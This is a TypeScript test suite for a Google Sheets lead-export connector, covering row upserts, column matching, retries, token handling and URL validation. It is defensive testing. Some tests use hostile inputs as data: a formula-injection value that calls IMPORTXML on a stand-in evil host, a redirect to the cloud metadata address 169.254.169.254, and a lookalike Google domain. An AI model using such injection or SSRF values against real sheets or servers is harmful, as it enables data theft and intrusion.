import { describe, expect, it } from "vitest";
import type { DestinationSettings } from "#src/destinations/destination";
import { googleSheets } from "#src/destinations/google-sheets/google-sheets";
import { letterOf } from "#src/destinations/google-sheets/google-spreadsheet";
import {
  batchOf,
  connectionTo,
  outgoingLead,
} from "#test/support/fakes/providers/destination-calls";
import { tokenFor, type Mode } from "#test/support/fakes/providers/provider-modes";

const HOST = "https://sheets.googleapis.com";
const COLUMNS = ["Domain", "Company", "Website", "Email", "All emails", "Phone", "City", "Country"];

/** A spreadsheet that is shared with a service account of its own. */
async function shared(mode: Mode = "ok", over: Partial<DestinationSettings> = {}) {
  const name = tokenFor(mode);
  const key = await (await fetch(`${HOST}/__account/${name}`)).text();
  const targetUrl = `https://docs.google.com/spreadsheets/d/sheet-${name}/edit?gid=0#gid=0`;
  return { ...connectionTo({ targetUrl, authToken: key, ...over }), name, ...cellsOf(name) };
}

async function scripted(mode: Mode = "ok", over: Partial<DestinationSettings> = {}) {
  const name = tokenFor(mode);
  const targetUrl = `https://script.google.com/macros/s/${name}/exec`;
  return { ...connectionTo({ targetUrl, authToken: "sesame", ...over }), ...cellsOf(name) };
}

/** Looks at a spreadsheet's cells, and fills them beforehand. */
const cellsOf = (name: string) => ({
  look: async (): Promise<any> => (await fetch(`${HOST}/__records/${name}`)).json(),
  fill: async (cells: (string | number)[][]) =>
    void (await fetch(`${HOST}/__fill/${name}`, { method: "POST", body: JSON.stringify(cells) })),
});

describe("a spreadsheet with a service account", () => {
  it("gets a header, a row for each domain, and the same rows the second time", async () => {
    const connection = await shared("ok", { config: { overwrite: "always" } });
    const leads = [outgoingLead(), outgoingLead(), outgoingLead()];
    const first = await googleSheets.push(batchOf(leads), connection);
    expect(first.failure).toBeNull();
    expect(first.results.map(({ status }) => status)).toEqual(["created", "created", "created"]);
    const renamed = { ...leads[1]!, company_name: "Renamed" };
    const fresh = outgoingLead();
    const second = await googleSheets.push(batchOf([renamed, fresh]), connection);
    expect(second.results.map(({ status }) => status)).toEqual(["updated", "created"]);
    const { grid, appended, tokens } = await connection.look();
    expect(grid[0]).toEqual([...COLUMNS, "Description"]);
    expect(grid.map((row: string[]) => row[0])).toEqual([
      "Domain",
      ...leads.map(({ domain }) => domain),
      fresh.domain,
    ]);
    expect(grid[2][1]).toBe("Renamed");
    expect([appended, tokens]).toEqual([4, 1]);
  });

  it("keeps the user's own columns, and adds missing ones on the right", async () => {
    const connection = await shared();
    await googleSheets.push(batchOf([outgoingLead({ domain: "kept.test" })]), connection);
    const scored = {
      ...connection,
      settings: { ...connection.settings, fieldMap: { lead_score: "Score" } },
    };
    const lead = outgoingLead({ domain: "KEPT.test", enrichment: { ai: { lead_score: 81 } } });
    const { results } = await googleSheets.push(batchOf([lead]), scored);
    expect(results[0]!.status).toBe("updated");
    const { grid } = await connection.look();
    expect(grid).toHaveLength(2);
    expect(grid[0].at(-1)).toBe("Score");
    expect(grid[1].at(-1)).toBe(81);
  });

  it("writes formulas as text", async () => {
    const connection = await shared();
    const lead = outgoingLead({ company_name: '=IMPORTXML("https://evil.test","//a")' });
    expect((await googleSheets.push(batchOf([lead]), connection)).failure).toBeNull();
    // The server takes nothing but RAW values, under which this is text.
    expect((await connection.look()).grid[1][1]).toBe(lead.company_name);
  });

  it("writes the last of two leads with the same domain", async () => {
    const connection = await shared();
    const lead = outgoingLead();
    const twin = outgoingLead({ domain: lead.domain, company_name: "Later" });
    const { results } = await googleSheets.push(batchOf([lead, twin]), connection);
    expect(results).toHaveLength(2);
    const { grid } = await connection.look();
    expect(grid).toHaveLength(2);
    expect(grid[1][1]).toBe("Later");
  });

  it("requests a token once, and again after it is rejected", async () => {
    const connection = await shared();
    await googleSheets.push(batchOf([outgoingLead()]), connection);
    await fetch(`${HOST}/__expire/${connection.name}`);
    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
    expect(failure).toBeNull();
    expect((await connection.look()).tokens).toBe(2);
  });

  it("finds written rows after a lost response", async () => {
    const connection = await shared("lost");
    const lead = outgoingLead();
    const first = await googleSheets.push(batchOf([lead]), connection);
    expect(first.failure).toMatchObject({ next: "retry" });
    const second = await googleSheets.push(batchOf([lead]), connection);
    expect(second.failure).toBeNull();
    const { grid } = await connection.look();
    expect(grid).toHaveLength(2);
  });

  it.each<[Mode, object]>([
    ["busy", { next: "retry", retryAfterMs: 30_000 }],
    ["throttled", { next: "retry", retryAfterMs: 60_000 }],
    ["broken", { next: "retry" }],
    ["hang", { next: "retry" }],
    ["refused", { next: "unauthorized" }],
    ["forbidden", { next: "unauthorized", message: expect.stringContaining("Share the") }],
  ])("maps %s", async (mode, expected) => {
    const { failure, results } = await googleSheets.push(
      batchOf([outgoingLead()]),
      await shared(mode),
    );
    expect(results).toEqual([]);
    expect(failure).toMatchObject(expected);
    expect(failure?.message).not.toMatch(/PRIVATE|ya29/);
  });

  it("reports a rejected key without quoting it", async () => {
    const { private_key, ...rest } = JSON.parse((await shared()).settings.authToken!);
    const broken = { ...rest, private_key: private_key.replace(/[A-Z]{4}/, "AAAA") };
    const connection = await shared("ok", { authToken: JSON.stringify(broken) });
    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
    expect(failure).toMatchObject({ next: "unauthorized" });
    expect(failure?.message).not.toContain(private_key.slice(40, 60));
  });

  it("tests access to the sheet without writing", async () => {
    const connection = await shared();
    await googleSheets.test(connection);
    expect((await connection.look()).grid).toEqual([]);
    await expect(googleSheets.test(await shared("forbidden"))).rejects.toThrow("Share the");
  });
});

describe("a sheet with an Apps Script", () => {
  it("receives rows through the script's redirect, formulas and phone numbers as text", async () => {
    const connection = await scripted();
    const lead = outgoingLead({ company_name: "=1+1" });
    const first = await googleSheets.push(batchOf([lead]), connection);
    expect(first).toMatchObject({ failure: null, results: [{ status: "created" }] });
    const second = await googleSheets.push(batchOf([lead]), connection);
    expect(second.results[0]!.status).toBe("updated");
    const { grid, formulas } = await connection.look();
    expect([grid.length, formulas]).toEqual([2, []]);
    expect(grid[1]).toEqual(expect.arrayContaining(["=1+1", "+493012345678"]));
  });

  it("keeps text that looks like a number, and formulas in its columns", async () => {
    const over = { fieldMap: { postal_code: "Postal code" } };
    const connection = await scripted("ok", over);
    await connection.fill([
      ["Domain", "Phone", "Postal code"],
      ["own.test", "0301234567", "007"],
    ]);
    const company = { postal_code: "01067" } as never;
    const lead = outgoingLead({ enrichment: { company }, phones: [] });
    expect((await googleSheets.push(batchOf([lead]), connection)).failure).toBeNull();
    const { grid } = await connection.look();
    expect(grid[1].slice(0, 3)).toEqual(["own.test", "0301234567", "007"]);
    expect(grid[2].slice(0, 3)).toEqual([lead.domain, "", "01067"]);
  });

  it("adds rows to a full sheet", async () => {
    const connection = await scripted();
    const rows = Array.from({ length: 999 }, (_, at) => [`own-${at}.test`]);
    await connection.fill([["Domain"], ...rows]);
    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
    expect(failure).toBeNull();
    expect((await connection.look()).grid).toHaveLength(1001);
  });

  it.each<[Mode, object]>([
    ["busy", { next: "retry", retryAfterMs: 30_000 }],
    ["broken", { next: "retry" }],
    ["hang", { next: "retry" }],
    ["refused", { next: "unauthorized" }],
    ["forbidden", { next: "unauthorized" }],
  ])("maps %s", async (mode, expected) => {
    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), await scripted(mode));
    expect(failure).toMatchObject(expected);
  });

  it("is unauthorized with a wrong token and never repeats it", async () => {
    const connection = await scripted("ok", { authToken: "wrong-token-value" });
    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
    expect(failure).toMatchObject({ next: "unauthorized" });
    expect(failure?.message).not.toContain("wrong-token-value");
    await expect(googleSheets.test(connection)).rejects.toMatchObject({ next: "unauthorized" });
    await googleSheets.test(await scripted());
  });
});

describe("a sheet, either way", () => {
  const WAYS = { "a service account": shared, "a script": scripted };

  it.each(
    Object.entries(WAYS).flatMap(([way, open]) =>
      (["shaky", "lost"] as const).map((mode) => [way, mode, open] as const),
    ),
  )("has each row once, by %s, when Google is %s", async (_, mode, open) => {
    const connection = await open(mode);
    const leads = [outgoingLead(), outgoingLead()];
    let outcome = await googleSheets.push(batchOf(leads), connection);
    expect(outcome.failure).toMatchObject({ next: "retry" });
    for (let tries = 0; outcome.failure && tries < 5; tries++)
      outcome = await googleSheets.push(batchOf(leads), connection);
    expect(outcome).toMatchObject({ failure: null, results: [{}, {}] });
    const { grid } = await connection.look();
    for (const { domain } of leads)
      expect(grid.filter((row: string[]) => row.includes(domain))).toHaveLength(1);
  });

  it.each(Object.entries(WAYS))(
    "finds columns by %s whose names differ in case, and leaves other columns unchanged",
    async (_, open) => {
      const connection = await open();
      await connection.fill([
        ["", " domain ", "EMAIL", "Notes", "Email"],
        ["1", "Kept.test", "", "mine", "old@kept.test", "no name"],
      ]);
      const lead = outgoingLead({ domain: "kept.test", emails: ["new@kept.test"] });
      const fresh = outgoingLead();
      const { results } = await googleSheets.push(batchOf([lead, fresh]), connection);
      expect(results.map(({ status }) => status)).toEqual(["updated", "created"]);
      const { grid } = await connection.look();
      expect(grid[0].slice(0, 8)).toEqual([
        "",
        " domain ",
        "EMAIL",
        "Notes",
        "Email",
        "",
        "Company",
        "Website",
      ]);
      expect([grid[1][0], ...grid[1].slice(3, 4), grid[1][5]]).toEqual(["1", "mine", "no name"]);
      expect(grid[1]).toContain("new@kept.test");
      expect(grid[2].slice(0, 2)).toEqual(["", fresh.domain]);
      expect(grid).toHaveLength(3);
    },
  );

  it.each(
    Object.entries(WAYS).flatMap(([way, open]) => [
      [way, {}, ["Acme Holding", "=A2", "Bath"], open] as const,
      [way, { overwrite: "empty_only" }, ["Acme Holding", "=A2", "Bath"], open] as const,
      [way, { overwrite: "always" }, ["Acme", "+493012345678", "Bath"], open] as const,
    ]),
  )("is filled in an existing row, by %s with %j: %j", async (_, config, cells, open) => {
    const connection = await open("ok", { config });
    await connection.fill([
      ["Domain", "Company", "Phone", "City", "Notes"],
      ["acme.com", "Acme Holding", "=A2", "", "mine"],
    ]);
    const enrichment = { company: { city: "Bath" } as never };
    const lead = outgoingLead({ domain: "acme.com", company_name: "Acme", enrichment });
    const { results, failure } = await googleSheets.push(batchOf([lead]), connection);
    expect([failure, results[0]?.status]).toEqual([null, "updated"]);
    const { grid } = await connection.look();
    expect(grid[1].slice(0, 5)).toEqual(["acme.com", ...cells, "mine"]);
    expect(grid).toHaveLength(2);
  });

  it("reads existing rows in one request, and writes none that is complete", async () => {
    const connection = await shared();
    const leads = Array.from({ length: 30 }, () => outgoingLead());
    await googleSheets.push(batchOf(leads), connection);
    const { fetch: passOn } = connection;
    const paths: string[] = [];
    connection.fetch = (url, init) => {
      paths.push(new URL(url).pathname.replace(/^.*\/(?:sheet-[^/]+)\/?/, ""));
      return passOn(url, init);
    };
    const { results } = await googleSheets.push(batchOf(leads), connection);
    expect(results.map(({ status }) => status)).toEqual(leads.map(() => "updated"));
    expect(paths).toHaveLength(4);
    expect(paths.at(-1)).toBe("values:batchGetByDataFilter");
  });

  it("does not change a row that Google does not return", async () => {
    const connection = await shared();
    await connection.fill([
      ["Domain", "Company"],
      ["acme.com", "Acme Holding"],
    ]);
    const { fetch: passOn } = connection;
    connection.fetch = async (url, init) =>
      url.endsWith("batchGetByDataFilter") ? Response.json({ valueRanges: [] }) : passOn(url, init);
    const lead = outgoingLead({ domain: "acme.com", company_name: "Acme" });
    const { results } = await googleSheets.push(batchOf([lead]), connection);
    expect(results).toMatchObject([{ status: "updated" }]);
    expect((await connection.look()).grid[1].slice(0, 2)).toEqual(["acme.com", "Acme Holding"]);
  });

  it.each(Object.entries(WAYS))("adds columns by %s to a full sheet", async (_, open) => {
    const connection = await open();
    await connection.fill([Array.from({ length: 24 }, (_, at) => `Own ${at}`)]);
    const lead = outgoingLead({ description: "x".repeat(60_000) });
    const { failure } = await googleSheets.push(batchOf([lead]), connection);
    expect(failure).toBeNull();
    const { grid } = await connection.look();
    expect(grid[0].slice(24)).toEqual([...COLUMNS, "Description"]);
    expect([grid[1][24], grid[1].at(-1).length]).toEqual([lead.domain, 50_000]);
  });

  it.each(
    Object.entries(WAYS).flatMap(([way, open]) => [
      [way, "a page", () => new Response("<html>Welcome</html>"), open] as const,
      [way, "an empty object", () => Response.json({}), open] as const,
      [way, "null", () => Response.json(null), open] as const,
      [
        way,
        "a redirect elsewhere",
        () => Response.redirect("http://169.254.169.254/", 302),
        open,
      ] as const,
      [way, "endless text", () => new Response("x".repeat(5_000_000)), open] as const,
    ]),
  )("handles a response to %s of %s", async (_, _what, respond, open) => {
    const connection = await open();
    const asked: string[] = [];
    connection.kept = { token: "access-token-kept", expiresAt: Date.now() + 3600_000 };
    connection.fetch = async (url) => {
      asked.push(new URL(url).hostname);
      return respond();
    };
    const { results, failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
    expect(results).toEqual([]);
    expect(["retry", "give_up"]).toContain(failure?.next);
    expect(asked).not.toContain("169.254.169.254");
  });

  it("sends no request without leads", async () => {
    for (const open of Object.values(WAYS)) {
      const outcome = await googleSheets.push(batchOf([]), await open("broken"));
      expect(outcome).toMatchObject({ results: [], failure: null });
    }
  });
});

it.each([
  ["https://docs.google.com/spreadsheets/d/1abcdefghijk/edit", "{}", ["auth_token"]],
  [
    "https://docs.google.com.evil.test/spreadsheets/d/1abcdefghijk",
    null,
    ["target_url", "auth_token"],
  ],
  ["https://script.google.com/macros/s/AKfy_x-1/exec", "token", []],
  ["https://script.google.com/macros/s/AKfy_x-1/exec", null, ["auth_token"]],
  ["http://script.google.com/macros/s/AKfy_x-1/exec", "token", ["target_url"]],
  ["https://script.google.com/d/AKfy/edit", "token", ["target_url"]],
  [null, null, ["target_url", "auth_token"]],
])("validates the URL of a sheet: %s", (targetUrl, authToken, paths) => {
  const { settings } = connectionTo({ targetUrl, authToken });
  expect(googleSheets.check(settings).map(({ path }) => path)).toEqual(paths);
});

it("rejects one column for two fields", () => {
  const targetUrl = "https://script.google.com/macros/s/AKfy_x-1/exec";
  const { settings } = connectionTo({
    targetUrl,
    authToken: "token",
    fieldMap: { linkedin: "domain ", x: "Network", facebook: "network" },
  });
  expect(googleSheets.check(settings).map(({ path }) => path)).toEqual([
    "field_map.linkedin",
    "field_map.facebook",
  ]);
});

it.each([
  [0, "A"],
  [25, "Z"],
  [26, "AA"],
  [701, "ZZ"],
  [702, "AAA"],
])("names column %i %s", (at, letters) => expect(letterOf(at)).toBe(letters));
